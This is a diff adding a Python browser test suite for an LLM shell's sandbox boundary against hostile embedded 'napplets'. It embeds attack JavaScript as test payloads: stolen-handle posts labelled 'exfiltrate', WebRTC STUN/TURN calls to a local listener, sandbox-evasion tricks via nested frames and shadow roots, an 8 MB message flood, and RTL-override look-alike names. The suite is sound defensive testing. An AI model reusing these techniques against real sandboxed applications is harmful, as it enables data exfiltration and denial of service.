@@ -1,0 +1,673 @@
+"""The napplet trust boundary against hostile napplets (items of the frame boundary).
+
+Each test is an attack a napplet author could try, against the real shell
+(napllm in Pyodide, ``?test=1`` fixture connections) in offline Chromium, with
+a hostile server on 127.0.0.1 that records every hit and a UDP listener on
+127.0.0.1 that records every datagram. A test fails if its attack works again:
+- a napplet navigating its frame to a page of its own never loads it (the
+  shell page's `frame-src 'none'`); a document without the prelude in the
+  frame (about:blank, with code injected) gets no endpoint: nothing it posts reaches the
+  runtime, nothing comes back; either way the endpoint is closed, the
+  standing grant revoked and the tab says why; a napplet reloading itself
+  still gets a new endpoint, whichever of its document start and the
+  frame's load the shell sees first;
+- WebRTC sends no UDP packet, from the napplet or from any frame it nests;
+- a napplet flooding the shell with 8 MB messages is stopped, the shell's
+  JS heap stays bounded and another napplet keeps working;
+- forged document starts and a self-reload loop cost bounded work and leave
+  no endpoint behind;
+- a napplet opened by a link shows its origin everywhere it is named, has a
+  sanitised name and starts without LLM access.
+
+The browser-level boundary (CSP, sandbox) is in test_isolation.py; the
+deployer's CSP in test_trust_csp.py.
+"""
+
+# ruff: noqa: E501  (the JavaScript embedded below keeps its natural line length)
+
+from __future__ import annotations
+
+import http.server
+import json
+import socket
+import threading
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote, unquote, urlsplit
+
+import pytest
+from shellpage import POLL_MS, Napplet, ShellPage, code, generate, install_napplets
+
+from napllm.providers.fixture import text_script
+
+pytestmark = pytest.mark.browser
+
+FULL = "Fixture (all capabilities)"
+LEFT_SANDBOX = "This napplet left its sandboxed page; its model access was closed."
+
+
+# --------------------------------------------------------------------------- listeners
+
+
+@dataclass
+class Hostile:
+    """A napplet author's own server on 127.0.0.1: serves `pages`, records every hit."""
+
+    pages: dict[str, str] = field(default_factory=dict)
+    hits: list[str] = field(default_factory=list)
+    url: str = ""
+
+    def page(self, path: str, html: str) -> str:
+        """Serve `html` at `path`; returns its URL."""
+        self.pages[path] = html
+        return self.url + path.lstrip("/")
+
+    def hits_for(self, prefix: str) -> list[str]:
+        return [h for h in self.hits if h.startswith(prefix)]
+
+
+@pytest.fixture(scope="module")
+def hostile() -> Iterator[Hostile]:
+    state = Hostile()
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            state.hits.append(self.path)
+            body = state.pages.get(unquote(urlsplit(self.path).path))
+            self.send_response(200 if body is not None else 404)
+            self.send_header("Content-Type", "text/html; charset=utf-8")
+            # Everything a page needs to load in the shell's frame (the shell is
+            # cross-origin isolated) and to be fetched by it.
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header("Cross-Origin-Resource-Policy", "cross-origin")
+            self.send_header("Cross-Origin-Embedder-Policy", "require-corp")
+            self.send_header("Cache-Control", "no-store")
+            self.end_headers()
+            self.wfile.write((body or "").encode())
+
+        def log_message(self, format: str, *args: Any) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    state.url = f"http://127.0.0.1:{server.server_address[1]}/"
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield state
+    server.shutdown()
+    server.server_close()
+
+
+@dataclass
+class Udp:
+    """A UDP socket on 127.0.0.1 recording every datagram's size."""
+
+    port: int
+    datagrams: list[int] = field(default_factory=list)
+
+
+@pytest.fixture
+def udp() -> Iterator[Udp]:
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.bind(("127.0.0.1", 0))
+    sock.settimeout(0.2)
+    state = Udp(sock.getsockname()[1])
+    stop = threading.Event()
+
+    def read() -> None:
+        while not stop.is_set():
+            try:
+                data, _ = sock.recvfrom(65535)
+            except TimeoutError:
+                continue
+            except OSError:
+                return
+            state.datagrams.append(len(data))
+
+    thread = threading.Thread(target=read, daemon=True)
+    thread.start()
+    yield state
+    stop.set()
+    thread.join(2)
+    sock.close()
+
+
+# --------------------------------------------------------------------------- the shell
+
+
+@pytest.fixture(scope="module")
+def context(browser: Any) -> Iterator[Any]:
+    ctx = browser.new_context()
+    yield ctx
+    ctx.close()
+
+
+@pytest.fixture(scope="module")
+def booted(context: Any, dist_url: str, test_pages_dir: Path) -> ShellPage:
+    shell = ShellPage(context.new_page(), dist_url, install_napplets(test_pages_dir, dist_url))
+    shell.boot()
+    return shell
+
+
+@pytest.fixture
+def shell(booted: ShellPage, request_log: Any) -> Iterator[ShellPage]:
+    yield booted
+    booted.reset()
+    booted.page.evaluate(
+        "() => document.querySelectorAll('#notice-list .notice').forEach((n) => n.remove())"
+    )
+
+
+def tab_text(napplet: Napplet) -> str:
+    text: str = napplet.page.locator(f"#{napplet.key}-panel").inner_text()
+    return text
+
+
+def wait_stopped(napplet: Napplet, text: str) -> None:
+    napplet.page.locator(f"#{napplet.key}-panel .frame-stopped", has_text=text).wait_for()
+    assert napplet.page.locator(f"{napplet.iframe_selector}").count() == 0
+
+
+def endpoint_options(shell: ShellPage) -> int:
+    """Endpoints listed in the inspector's filter (without "All endpoints")."""
+    count: int = shell.page.locator("#inspector-endpoint option").count()
+    return count - 1
+
+
+# --------------------------------------------------------------------------- 1. navigation
+
+
+#: The page a napplet navigates its frame to: no prelude, no CSP. It posts with the
+#: stolen handle (and a forged document start), then reports what came back.
+ESCAPE_PAGE = """<!doctype html><meta charset="utf-8"><title>other</title><script>
+const handle = decodeURIComponent(location.hash.slice(1));
+const got = [];
+addEventListener('message', (e) => { if (e.source === parent) got.push(e.data && e.data.type); });
+const report = (what) => fetch('/hit/' + what + '?' + encodeURIComponent(JSON.stringify(got)));
+report('ran');
+const channel = new MessageChannel();
+channel.port1.onmessage = (e) => got.push('port:' + (e.data && e.data.type));
+parent.postMessage({type: 'napllm.documentStart', secret: '0'.repeat(32)}, '*',
+                   [channel.port2, new MessageChannel().port2]);
+parent.postMessage({type: 'napllm.documentStart'}, '*');
+for (const id of ['g-escape', 'g-escape-2']) {
+  const envelope = {type: 'llm.generate', id, request: {handle,
+    messages: [{role: 'user', content: [{type: 'text', text: 'exfiltrate'}]}]}};
+  parent.postMessage(envelope, '*');
+  channel.port1.postMessage(envelope);
+  postMessage(envelope, '*');
+}
+setTimeout(() => report('after'), 1500);
+</script>"""
+
+
+def test_navigating_away_gets_no_endpoint_and_closes_access(
+    shell: ShellPage, hostile: Hostile
+) -> None:
+    other = hostile.page("/other.html", ESCAPE_PAGE)
+    app = shell.open_napplet()
+    handle = app.select(FULL)
+    shell.queue("fx-full", text_script(["granted"]))
+    app.post(generate("g1", handle))
+    shell.remember()  # "Allow this napplet on this connection until I close the page"
+    assert app.wait_for("g1")["result"]["content"][0]["text"] == "granted"
+    assert shell.page.locator("#grant-list button.revoke").count() == 1
+    submissions = shell.submissions("fx-full")
+    app.evaluate("(url) => { location.href = url; }", f"{other}#{quote(handle)}")
+    wait_stopped(app, LEFT_SANDBOX)
+    # the shell page's frame-src keeps the frame from loading the page at all:
+    # the navigation (a request whose URL could carry data) never left
+    assert hostile.hits_for("/other.html") == [] and hostile.hits_for("/hit/") == []
+    assert shell.submissions("fx-full") == submissions
+    assert shell.open_dialogs() == 0
+    # the standing grant of this napplet is gone; the user is told
+    shell.page.wait_for_function("() => !document.querySelector('#grant-list button.revoke')")
+    assert any(LEFT_SANDBOX in text for text in shell.notices())
+    # the frame is gone: the napplet can be reloaded to start over
+    assert "Reload" in tab_text(app)
+
+
+#: What runs in a document without the prelude: posts the stolen handle every
+#: way it can (raw, on a port of its own, with a forged start, to itself) and
+#: returns what came back.
+FOREIGN_ATTEMPTS = """async (handle) => {
+  const got = [];
+  addEventListener('message', (e) => { if (e.source === parent) got.push(e.data && e.data.type); });
+  const channel = new MessageChannel();
+  channel.port1.onmessage = (e) => got.push('port:' + (e.data && e.data.type));
+  parent.postMessage({type: 'napllm.documentStart', secret: '0'.repeat(32)}, '*',
+                     [channel.port2, new MessageChannel().port2]);
+  parent.postMessage({type: 'napllm.documentStart'}, '*');
+  for (const id of ['g-escape', 'g-escape-2']) {
+    const envelope = {type: 'llm.generate', id, request: {handle,
+      messages: [{role: 'user', content: [{type: 'text', text: 'exfiltrate'}]}]}};
+    parent.postMessage(envelope, '*');
+    channel.port1.postMessage(envelope);
+    postMessage(envelope, '*');
+  }
+  await new Promise((resolve) => setTimeout(resolve, 600));
+  return {got, prelude: 'napplet' in window};
+}"""
+
+
+def test_a_document_without_the_prelude_reaches_nothing(shell: ShellPage) -> None:
+    # about:blank replaces the napplet's document inside the sandbox; the code
+    # is injected into it, as if that document carried it
+    app = shell.open_napplet()
+    handle = app.select(FULL)
+    submissions = shell.submissions("fx-full")
+    app.evaluate("() => { location.href = 'about:blank'; }")
+    frame = app.frame
+    frame.wait_for_function("() => location.href === 'about:blank'", polling=POLL_MS)
+    outcome = frame.evaluate(FOREIGN_ATTEMPTS, handle)
+    assert outcome == {"got": [], "prelude": False}, outcome
+    assert shell.submissions("fx-full") == submissions and shell.open_dialogs() == 0
+    wait_stopped(app, LEFT_SANDBOX)
+
+
+def _reload_keeps_working(shell: ShellPage) -> None:
+    """A napplet reloading itself gets a new endpoint; its grant stays; nothing stops it."""
+    app = shell.open_napplet()
+    handle = app.select(FULL)
+    shell.queue("fx-full", text_script(["one"]))
+    app.post(generate("g1", handle))
+    shell.remember()
+    app.wait_for("g1")
+    # the new document posts while it is still loading (before the frame's load event)
+    early = json.dumps({"type": "llm.describe", "id": "early", "handle": handle})
+    app.evaluate(
+        f"() => {{ window.name = 'post-at-start:' + {json.dumps(early)}; location.reload(); }}"
+    )
+    app.frame.wait_for_function(
+        "() => window.probe && window.probe.envelopes().length === 1", polling=POLL_MS
+    )
+    assert code(app.envelopes()[0]) == "selection-expired"
+    fresh = app.select(FULL, rid="s2")
+    assert fresh != handle
+    # the grant is the napplet's (same bytes): no dialog for the new endpoint
+    shell.queue("fx-full", text_script(["two"]))
+    app.post(generate("g2", fresh))
+    assert app.wait_for("g2")["result"]["content"][0]["text"] == "two"
+    # well past the grace period the shell gives a load to be reported
+    shell.page.wait_for_timeout(2500)
+    assert app.page.locator(f"#{app.key}-panel .frame-stopped").count() == 0
+    app.post({"type": "llm.describe", "id": "d3", "handle": fresh})
+    assert "model" in app.wait_for("d3", "llm.describe.result")
+
+
+def test_reload_with_document_start_before_load(shell: ShellPage) -> None:
+    # the probe holds its load event back after posting: the start comes first
+    _reload_keeps_working(shell)
+
+
+#: Held document starts: each reaches the shell only after the frame's next load
+#: event (plus 300 ms), so the shell sees load first, start second.
+HOLD_STARTS = """(() => {
+  const held = [];
+  const add = EventTarget.prototype.addEventListener;
+  EventTarget.prototype.addEventListener = function (type, listener, options) {
+    if (this === window && type === 'message' && typeof listener === 'function') {
+      const wrapped = (event) => {
+        const d = event.data;
+        if (!event.__released && d && d.type === 'napllm.documentStart') {
+          held.push({event, listener});
+          return;
+        }
+        listener.call(this, event);
+      };
+      return add.call(this, type, wrapped, options);
+    }
+    return add.call(this, type, listener, options);
+  };
+  window.__heldStarts = 0;
+  add.call(document, 'load', (event) => {
+    if (!(event.target instanceof HTMLIFrameElement)) return;
+    setTimeout(() => {
+      for (const {event: e, listener} of held.splice(0)) {
+        const copy = new MessageEvent('message', {data: e.data, source: e.source, ports: [...e.ports]});
+        copy.__released = true;
+        window.__heldStarts += 1;
+        listener.call(window, copy);
+      }
+    }, 300);
+  }, true);
+})();"""
+
+
+def test_reload_with_document_start_after_load(
+    browser: Any, dist_url: str, test_pages_dir: Path
+) -> None:
+    context = browser.new_context()
+    try:
+        page = context.new_page()
+        page.add_init_script(HOLD_STARTS)
+        shell = ShellPage(page, dist_url, install_napplets(test_pages_dir, dist_url))
+        shell.boot()
+        _reload_keeps_working(shell)
+        # the reordering really happened (first document and reloads)
+        assert page.evaluate("window.__heldStarts") >= 2
+    finally:
+        context.close()
+
+
+# --------------------------------------------------------------------------- 4. churn
+
+
+def test_forged_starts_and_a_reload_loop_are_bounded(shell: ShellPage, hostile: Hostile) -> None:
+    app = shell.open_napplet()
+    handle = app.select(FULL)
+    # 4,000 forged starts (wrong secret, fresh ports; no secret at all)
+    app.evaluate(
+        """() => { for (let i = 0; i < 2000; i++) {
+             parent.postMessage({type: 'napllm.documentStart', secret: String(i).padStart(32, '0')},
+                                '*', [new MessageChannel().port2, new MessageChannel().port2]);
+             parent.postMessage({type: 'napllm.documentStart'}, '*'); } }"""
+    )
+    app.post({"type": "llm.describe", "id": "d1", "handle": handle})
+    # the endpoint is the same one: its handle still works
+    assert "model" in app.wait_for("d1", "llm.describe.result")
+    assert endpoint_options(shell) == 1
+    # a napplet reloading itself in a loop is stopped; closed endpoints leave no trace
+    loop = hostile.page(
+        "/loop/index.html",
+        """<!doctype html><meta charset="utf-8"><title>loop</title><script>
+        const n = Number(window.name || 0);
+        window.name = String(n + 1);
+        postMessage({type: 'llm.describe', id: 'd' + n, handle: 'none'}, '*');
+        setTimeout(() => location.reload(), 30);
+        </script>""",
+    )
+    before = shell.page.locator("#napplet-tabs .tab").count()
+    shell.page.fill("#napplet-url", loop)
+    shell.page.click("#napplet-url-open")
+    shell.page.wait_for_function(
+        "(n) => document.querySelectorAll('#napplet-tabs .tab').length > n", arg=before
+    )
+    key = (shell.page.locator("#napplet-tabs .tab").last.get_attribute("id") or "").removesuffix(
+        "-tab"
+    )
+    looping = Napplet(shell, key, loop)
+    shell.open.append(looping)
+    wait_stopped(looping, "reloaded itself too often")
+    assert endpoint_options(shell) <= 1
+    # the other napplet is unaffected
+    app.post({"type": "llm.describe", "id": "d2", "handle": handle})
+    assert "model" in app.wait_for("d2", "llm.describe.result")
+
+
+# --------------------------------------------------------------------------- 3. flood
+
+
+FLOOD = """<!doctype html><meta charset="utf-8"><title>flood</title><body><script>
+window.sent = 0;
+const pad = 'x'.repeat(8 * 1000 * 1000);
+(async () => {
+  for (let i = 0; i < 500; i++) {
+    parent.postMessage({type: 'x.flood', id: 'r' + i, pad}, '*');  // raw, to the shell
+    postMessage({type: 'x.flood', id: 'f' + i, pad}, '*');  // forwarded by the prelude
+    window.sent = i + 1;
+    if (i % 4 === 3) await new Promise((resolve) => setTimeout(resolve, 0));
+  }
+})();
+</script>"""
+
+
+def test_a_flooding_napplet_is_stopped_and_memory_stays_bounded(
+    shell: ShellPage, hostile: Hostile
+) -> None:
+    app = shell.open_napplet()
+    handle = app.select(FULL)
+    cdp = shell.page.context.new_cdp_session(shell.page)
+    shell.page.evaluate("() => new Promise((r) => setTimeout(r, 50))")
+    cdp.send("HeapProfiler.collectGarbage")
+    baseline = cdp.send("Runtime.getHeapUsage")["usedSize"]
+    flood = hostile.page("/flood/index.html", FLOOD)
+    before = shell.page.locator("#napplet-tabs .tab").count()
+    shell.page.fill("#napplet-url", flood)
+    shell.page.click("#napplet-url-open")
+    shell.page.wait_for_function(
+        "(n) => document.querySelectorAll('#napplet-tabs .tab').length > n", arg=before
+    )
+    key = (shell.page.locator("#napplet-tabs .tab").last.get_attribute("id") or "").removesuffix(
+        "-tab"
+    )
+    flooder = Napplet(shell, key, flood)
+    shell.open.append(flooder)
+    peak = baseline
+    deadline = time.monotonic() + 60
+    stopped = shell.page.locator(f"#{key}-panel .frame-stopped")
+    while stopped.count() == 0 and time.monotonic() < deadline:
+        peak = max(peak, cdp.send("Runtime.getHeapUsage")["usedSize"])
+        time.sleep(0.05)
+    wait_stopped(flooder, "sent too many messages")
+    for _ in range(10):
+        peak = max(peak, cdp.send("Runtime.getHeapUsage")["usedSize"])
+        time.sleep(0.05)
+    # 500 x 8 MB is 4 GB of text (8 GB as UTF-16); the shell keeps a bounded share
+    assert peak - baseline < 400 * 1024 * 1024, (baseline, peak)
+    cdp.send("HeapProfiler.collectGarbage")
+    after = cdp.send("Runtime.getHeapUsage")["usedSize"]
+    assert after - baseline < 64 * 1024 * 1024, (baseline, after)
+    # the inspector kept a bounded amount of text
+    kept = shell.page.evaluate(
+        "() => [...document.querySelectorAll('#inspector-list pre')]"
+        ".reduce((n, p) => n + p.textContent.length, 0)"
+    )
+    assert kept < 4 * 1024 * 1024
+    assert any("sent too many messages" in text for text in shell.notices())
+    # the other napplet keeps working
+    shell.queue("fx-full", text_script(["still here"]))
+    app.post(generate("g1", handle))
+    shell.allow()
+    assert app.wait_for("g1")["result"]["content"][0]["text"] == "still here"
+    cdp.detach()
+
+
+# --------------------------------------------------------------------------- 2. WebRTC
+
+
+#: Every way a napplet could reach an RTCPeerConnection: its own window, a frame it
+#: appends, a frame in its markup (inline handler), nested srcdoc frames (with and
+#: without a sandbox of their own), document.open, and constructors of other realms.
+WEBRTC_ATTEMPTS = """async (port) => {
+  const ice = {iceServers: [{urls: 'stun:127.0.0.1:' + port},
+                            {urls: 'turn:127.0.0.1:' + port, username: 'exfil', credential: 'x'}]};
+  const tryWith = async (reach) => {
+    let Ctor;
+    try { Ctor = reach(); } catch (e) { return 'unreachable ' + e.name; }
+    if (typeof Ctor !== 'function') return 'absent';
+    try {
+      const pc = new Ctor(ice);
+      pc.createDataChannel('x');
+      await pc.setLocalDescription(await pc.createOffer());
+      return 'created';
+    } catch (e) { return 'threw ' + e.name; }
+  };
+  const out = {};
+  out.own = await tryWith(() => window.RTCPeerConnection);
+  out.webkit = await tryWith(() => window.webkitRTCPeerConnection);
+  const blank = document.createElement('iframe');
+  document.body.append(blank);
+  out.appended = await tryWith(() => blank.contentWindow.RTCPeerConnection);
+  out.framesIndex = await tryWith(() => frames[frames.length - 1].RTCPeerConnection);
+  out.grandchild = await tryWith(() => {
+    const inner = blank.contentWindow.document.createElement('iframe');
+    blank.contentWindow.document.body.append(inner);
+    return inner.contentWindow.RTCPeerConnection;
+  });
+  try { document.open(); out.open = 'opened'; } catch (e) { out.open = 'threw ' + e.name; }
+  try { blank.contentWindow.Document.prototype.open.call(document); out.foreignOpen = 'opened'; }
+  catch (e) { out.foreignOpen = 'threw ' + e.name; }
+  const holder = document.createElement('div');
+  holder.innerHTML = '<iframe></iframe>';
+  document.body.append(holder);
+  out.innerHTML = await tryWith(() => holder.firstChild.contentWindow.RTCPeerConnection);
+  const run = 'const ice = ' + JSON.stringify(ice) + ';'
+    + 'try { const pc = new RTCPeerConnection(ice); pc.createDataChannel("x");'
+    + ' pc.createOffer().then((o) => pc.setLocalDescription(o)); parent.postMessage("rtc:created", "*"); }'
+    + ' catch (e) { parent.postMessage("rtc:" + e.name, "*"); }';
+  const nested = (sandbox, mount) => new Promise((resolve) => {
+    const f = document.createElement('iframe');
+    if (sandbox) f.setAttribute('sandbox', 'allow-scripts');
+    const onMessage = (e) => { if (typeof e.data === 'string' && e.data.startsWith('rtc:')) {
+      removeEventListener('message', onMessage); resolve(e.data); } };
+    addEventListener('message', onMessage);
+    f.srcdoc = '<script>' + run + '<' + '/script>';
+    (mount || ((frame) => document.body.append(frame)))(f);
+    setTimeout(() => resolve('did not run'), 1500);
+  });
+  out.nestedSrcdoc = await nested(false);
+  // the prelude's DOM methods cannot be taken away from it
+  const saved = [Node.prototype.removeChild, Element.prototype.getElementsByTagName,
+                 Object.getOwnPropertyDescriptor(MutationRecord.prototype, 'addedNodes')];
+  Node.prototype.removeChild = function () { return arguments[0]; };
+  Element.prototype.getElementsByTagName = () => [];
+  Object.defineProperty(MutationRecord.prototype, 'addedNodes', {get: () => [], configurable: true});
+  Object.defineProperty(Array.prototype, '0', {set() {}, configurable: true});
+  out.sabotaged = await nested(true);
+  Node.prototype.removeChild = saved[0];
+  Element.prototype.getElementsByTagName = saved[1];
+  Object.defineProperty(MutationRecord.prototype, 'addedNodes', saved[2]);
+  delete Array.prototype[0];
+  out.nestedSandboxed = await nested(true);
+  out.closedShadow = await nested(true, (frame) => {
+    const host = document.createElement('div');
+    document.body.append(host);
+    host.attachShadow({mode: 'closed'}).append(frame);
+  });
+  const frameMarkup = '<iframe sandbox="allow-scripts" srcdoc="<script>'
+    + run.replaceAll('"', '&quot;') + '<' + '/script>"></iframe>';
+  out.declarative = await nested(true, () => {
+    const host = document.createElement('div');
+    document.body.append(host);
+    try {
+      host.setHTMLUnsafe('<div><template shadowrootmode="closed">' + frameMarkup + '</template></div>');
+    } catch (e) { out.setHTMLUnsafe = 'threw ' + e.name; }
+  });
+  try { Document.parseHTMLUnsafe('<template shadowrootmode="open"></template>'); out.parse = 'parsed'; }
+  catch (e) { out.parse = 'threw ' + e.name; }
+  await new Promise((r) => setTimeout(r, 1000));
+  return out;
+}"""
+
+
+def test_webrtc_sends_no_udp_from_the_napplet_or_its_frames(shell: ShellPage, udp: Udp) -> None:
+    # positive control: the shell page itself (no prelude) does reach the listener
+    shell.page.evaluate(
+        """(port) => { const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + port}]});
+             pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o));
+             window.__controlPc = pc; }""",
+        udp.port,
+    )
+    deadline = time.monotonic() + 10
+    while not udp.datagrams and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert udp.datagrams, "the UDP listener saw nothing even from the shell page"
+    shell.page.evaluate("() => { window.__controlPc.close(); delete window.__controlPc; }")
+    time.sleep(0.3)
+    udp.datagrams.clear()
+    app = shell.open_napplet()
+    out = app.evaluate(WEBRTC_ATTEMPTS, udp.port)
+    time.sleep(1.0)
+    assert udp.datagrams == [], json.dumps(out)
+    for name in ("own", "webkit", "appended", "framesIndex", "grandchild", "innerHTML"):
+        assert out[name] == "absent" or out[name].startswith("unreachable"), (name, out)
+    assert out["open"].startswith("threw") and out["foreignOpen"].startswith("threw"), out
+    for name in ("nestedSrcdoc", "nestedSandboxed", "sabotaged", "closedShadow", "declarative"):
+        assert out[name] == "did not run", (name, out)
+    assert out["setHTMLUnsafe"].startswith("threw") and out["parse"].startswith("threw"), out
+    # the napplet itself is unharmed
+    assert app.select(FULL)
+
+
+def test_a_napplet_with_declarative_shadow_roots_does_not_run(
+    shell: ShellPage, hostile: Hostile
+) -> None:
+    # a closed declarative shadow root would hide a nested frame from the prelude
+    url = hostile.page(
+        "/dsd/index.html",
+        '<!doctype html><div><template shadowrootmode="closed">'
+        '<iframe sandbox="allow-scripts" srcdoc="<script>new RTCPeerConnection()</script>">'
+        "</iframe></template></div>",
+    )
+    shell.page.fill("#napplet-url", url)
+    shell.page.click("#napplet-url-open")
+    shell.page.locator("#notice-list .notice", has_text="declarative shadow roots").wait_for()
+    assert shell.page.locator("iframe.napplet-frame").count() == 0
+    shell.page.locator("#napplet-tabs .tab").last.wait_for()
+    key = (shell.page.locator("#napplet-tabs .tab").last.get_attribute("id") or "").removesuffix(
+        "-tab"
+    )
+    shell.open.append(Napplet(shell, key, url))
+
+
+# --------------------------------------------------------------------------- 7. dev mode
+
+
+def test_a_link_shows_the_origin_and_starts_without_llm_access(
+    browser: Any, dist_url: str, test_pages_dir: Path, hostile: Hostile
+) -> None:
+    # a hostile page named like a listed napplet, with look-alike tricks in its path
+    hostile.page(
+        "/\u202echat (built-in)/index.html", "<!doctype html><title>x</title><p>hostile chat</p>"
+    )
+    url = hostile.url + quote("\u202echat (built-in)") + "/index.html"
+    origin = hostile.url.rstrip("/")
+    context = browser.new_context()
+    try:
+        shell = ShellPage(context.new_page(), dist_url, install_napplets(test_pages_dir, dist_url))
+        shell.boot("?test=1&napplet=" + quote(url, safe=""))
+        page = shell.page
+        page.wait_for_function("() => document.querySelectorAll('#napplet-tabs .tab').length === 1")
+        tab = page.locator("#napplet-tabs .tab")
+        tab_label = tab.inner_text()
+        assert origin in tab_label
+        assert "\u202e" not in tab_label and "built-in" not in tab_label.lower()
+        assert "chat" in tab_label
+        panel = page.locator(".tabpanel").first
+        assert origin in panel.locator(".identity").inner_text()
+        toggle = panel.locator(".llm-toggle")
+        assert not toggle.is_checked()
+        page.wait_for_function(
+            "() => { const f = document.querySelector('iframe.napplet-frame'); return f && f.srcdoc; }"
+        )
+        frame = page.locator("iframe.napplet-frame").element_handle().content_frame()
+        frame.wait_for_function("() => 'napplet' in window")
+        assert frame.evaluate("() => Object.keys(window.napplet)") == []
+        # the person turns LLM access on (a real click); dialogs name the origin
+        old = frame.frame_element()
+        toggle.click()
+        page.wait_for_function(
+            "(old) => { const f = document.querySelector('iframe.napplet-frame');"
+            " return f && f !== old && f.srcdoc; }",
+            arg=old,
+        )
+        frame = page.locator("iframe.napplet-frame").element_handle().content_frame()
+        frame.wait_for_function("() => window.napplet && window.napplet.llm")
+        frame.evaluate(
+            "() => { window.picked = null; napplet.llm.select().then((m) => window.picked = m); }"
+        )
+        chooser = shell.chooser()
+        assert origin in chooser.inner_text()
+        shell.choose(FULL)
+        frame.wait_for_function("() => window.picked !== null", polling=POLL_MS)
+        handle = frame.evaluate("() => window.picked.handle")
+        shell.queue("fx-full", text_script(["hi"]))
+        frame.evaluate(
+            "(h) => { window.done = null; napplet.llm.generate({handle: h, messages: [{role: 'user',"
+            " content: [{type: 'text', text: 'hi'}]}]}).then((r) => window.done = r); }",
+            handle,
+        )
+        consent = shell.consent()
+        consent_text = consent.inner_text()
+        assert origin in consent_text and "\u202e" not in consent_text
+        shell.allow()
+        frame.wait_for_function("() => window.done !== null", polling=POLL_MS)
+        options = page.evaluate(
+            "() => [...document.querySelectorAll('#inspector-endpoint option')].map((o) => o.text)"
+        )
+        assert any(origin in option for option in options), options
+    finally:
+        context.close()
